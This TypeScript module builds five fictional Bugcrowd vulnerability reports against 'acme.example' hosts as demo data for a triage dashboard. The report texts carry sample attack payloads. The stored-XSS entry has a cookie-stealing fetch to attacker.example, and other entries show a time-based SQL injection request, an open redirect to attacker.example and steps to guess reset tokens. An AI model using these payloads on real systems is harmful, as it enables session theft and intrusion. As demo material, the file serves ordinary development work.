import { demoConversation } from './demo-conversation';
import type { SubmissionInput } from '../bugcrowd/store/submission-input';

const MS_PER_DAY = 86_400_000;

interface DemoSubmission {
  readonly title: string;
  readonly priority: number;
  readonly cvss?: number;
  readonly state: 'triaged' | 'unresolved' | 'resolved';
  /** Days since it was submitted, and since it was triaged. */
  readonly submittedDaysAgo: number;
  readonly triagedDaysAgo: number;
  readonly vrtId: string;
  readonly target: string;
  readonly researcher: string;
  readonly description: string;
}

/** Of different severity and age, so that under the default policy every band is on the first page. */
const submissions: readonly DemoSubmission[] = [
  {
    title: 'Stored XSS in the comment preview runs for every reader',
    priority: 2,
    state: 'triaged',
    submittedDaysAgo: 4,
    triagedDaysAgo: 3,
    vrtId: 'cross_site_scripting_xss.stored.non_admin_to_anyone',
    target: 'app.acme.example',
    researcher: 'quiet_otter',
    description:
      '## What happens\n\nThe preview renders `<img src=x onerror=alert(document.domain)>` as markup.\n\n1. Write the comment below\n2. Open the preview as another user\n\n```html\n<img src=x onerror="fetch(\'//attacker.example/?c=\'+document.cookie)">\n```\n\n> Seen in Chromium and Firefox.\n\n| role | affected |\n| --- | --- |\n| reader | yes |\n| admin | yes |',
  },
  {
    title: 'SQL injection in the report export reads any table',
    priority: 1,
    state: 'unresolved',
    submittedDaysAgo: 14,
    triagedDaysAgo: 12,
    vrtId: 'server_side_injection.sql_injection',
    target: 'reports.acme.example',
    researcher: 'nullbyte_nora',
    description:
      'The parameter `sort` of **/export** goes into the query as it is.\n\n```http\nGET /export?sort=name;select+pg_sleep(5)-- HTTP/1.1\nHost: reports.acme.example\n```\n\nThe answer takes five seconds longer.',
  },
  {
    title: 'Account takeover through a predictable password reset token',
    priority: 3,
    cvss: 9.1,
    state: 'triaged',
    submittedDaysAgo: 9,
    triagedDaysAgo: 8.5,
    vrtId: 'broken_authentication_and_session_management.weak_login_function',
    target: 'login.acme.example',
    researcher: 'tea_and_tokens',
    description:
      'Reset tokens are the MD5 of the time in seconds. Ten requests are enough to hit one.\n\n* ask for a reset\n* note the `Date` header\n* try the ten tokens around it',
  },
  {
    title: 'Missing rate limit on the coupon endpoint',
    priority: 4,
    state: 'triaged',
    submittedDaysAgo: 30,
    triagedDaysAgo: 28,
    vrtId: 'server_security_misconfiguration.no_rate_limiting_on_form',
    target: 'shop.acme.example',
    researcher: 'bruteforce_bea',
    description: 'A thousand requests to `/coupon/check` in a minute were all answered.',
  },
  {
    title: 'Open redirect after login',
    priority: 3,
    state: 'resolved',
    submittedDaysAgo: 40,
    triagedDaysAgo: 38,
    vrtId: 'unvalidated_redirects_and_forwards.open_redirect.get_based',
    target: 'login.acme.example',
    researcher: 'quiet_otter',
    description:
      'The parameter `next` takes any address: [example](https://login.acme.example/?next=//attacker.example).',
  },
];

/** Ids that are the same on every demo site. */
function uuid(index: number): string {
  return `d3300000-0000-4000-8000-0001${String(index).padStart(8, '0')}`;
}

function toInput(submission: DemoSubmission, index: number, nowMs: number): SubmissionInput {
  const ago = (days: number): string => new Date(nowMs - days * MS_PER_DAY).toISOString();
  const resolvedAt = submission.state === 'resolved' ? ago(1) : null;
  const triagedAt = ago(submission.triagedDaysAgo);
  return {
    id: uuid(index),
    program: 'acme',
    attributes: {
      title: submission.title,
      description: submission.description,
      severity: submission.priority,
      state: submission.state,
      submitted_at: ago(submission.submittedDaysAgo),
      last_transitioned_to_triaged_at: triagedAt,
      last_transitioned_to_resolved_at: resolvedAt,
      vrt_id: submission.vrtId,
    },
    cvssScore: submission.cvss ?? null,
    targetName: submission.target,
    researcher: submission.researcher,
    updatedAt: resolvedAt ?? triagedAt,
  };
}

/** What Bugcrowd has and tells of on the demo site, dated back from now. */
export function demoSubmissions(nowMs: number): readonly SubmissionInput[] {
  return submissions.map((submission, index) => ({
    ...toInput(submission, index + 1, nowMs),
    ...(index === 0 && { comments: demoConversation(nowMs) }),
  }));
}
